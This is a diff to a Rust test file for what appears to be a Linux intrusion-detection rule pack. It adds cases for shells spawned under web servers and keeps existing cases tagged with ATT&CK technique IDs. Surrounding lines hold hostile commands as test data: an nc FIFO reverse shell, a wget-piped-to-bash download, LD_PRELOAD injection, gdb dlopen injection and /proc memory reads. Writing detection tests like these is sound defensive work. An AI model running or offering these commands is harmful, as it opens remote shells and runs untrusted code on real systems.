@@ -93,6 +93,17 @@ fn cases() -> Vec<(&'static str, &'static str, Vec<Event>, &'static str)> {
     let mut preload = p("/usr/bin/id", &["id"]);
     preload.set_env_var("LD_PRELOAD", "/dev/shm/libx.so");
     let fake_root = p("/tmp/exploit", &["./exploit"]);
+    // A shell or a command below a server called nothing the pack knows.
+    let served = |mut shell: Process, parent: &str| {
+        shell.under_server = true;
+        exec(
+            &shell,
+            &[
+                p(parent, &[parent]),
+                p("/usr/lib/systemd/systemd", &["/sbin/init"]),
+            ],
+        )
+    };
     vec![
         ("T1003.007", "python reads another process's memory", vec![read("/usr/bin/python3.11", "/proc/1234/mem")], "SHR-CRED-006"),
         ("T1003.007", "gdb (by path) may read memory", vec![read("/usr/bin/gdb", "/proc/1234/mem")], ""),
@@ -136,6 +147,18 @@ fn cases() -> Vec<(&'static str, &'static str, Vec<Event>, &'static str)> {
         ("T1003.007", "py-spy (by path) samples a python process", vec![ptrace(&p("/usr/bin/py-spy", &["py-spy", "top", "--pid", "812"]), &sh(), "PROCESS_VM_READV", &p("/usr/bin/python3.11", &["python3"]))], ""),
         ("T1055.009", "python patches another process through /proc/PID/mem", vec![open(&p("/usr/bin/python3.11", &["python3"]), &sh(), "/proc/1234/mem", &["read", "write"])], "SHR-KRN-008"),
         ("T1055.009", "gdb (by path) writes a process's memory", vec![open(&p("/usr/bin/gdb", &["gdb"]), &sh(), "/proc/1234/mem", &["read", "write"])], ""),
+        ("T1505.003", "a shell under an unnamed server", vec![served(p("/usr/bin/dash", &["sh", "-c", "id"]), "/opt/shop/bin/storefront")], "SHR-EXEC-014"),
+        ("T1082", "a server runs uname itself (no shell)", vec![served(p("/usr/bin/uname", &["uname", "-a"]), "/opt/shop/bin/storefront")], ""),
+        ("T1505.003", "a login shell under sshd", vec![{
+            let mut shell = p("/usr/bin/bash", &["-bash"]);
+            shell.under_server = true;
+            exec(&shell, &[p("/usr/sbin/sshd", &["sshd: root@pts/0"]), p("/usr/sbin/sshd", &["sshd"])])
+        }], ""),
+        ("T1505.003", "a shell under a shell under a server", vec![{
+            let mut shell = p("/usr/bin/dash", &["sh", "-c", "ls"]);
+            shell.under_server = true;
+            exec(&shell, &[p("/usr/bin/bash", &["bash"]), p("/opt/shop/bin/storefront", &["storefront"])])
+        }], ""),
         ("T1055.008", "gdb told to dlopen", vec![run("/usr/bin/gdb", &["gdb", "-p", "812", "-batch", "-ex", "call (void*)dlopen(\"/tmp/x.so\", 2)"])], "SHR-KRN-007"),
         ("T1059.004", "a FIFO reverse shell with nc", vec![sh_c("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f")], "SHR-EXEC-010"),
         ("T1059.004", "wget piped to bash", vec![sh_c("wget -qO- http://203.0.113.7/s.sh | bash")], "SHR-EXEC-009"),
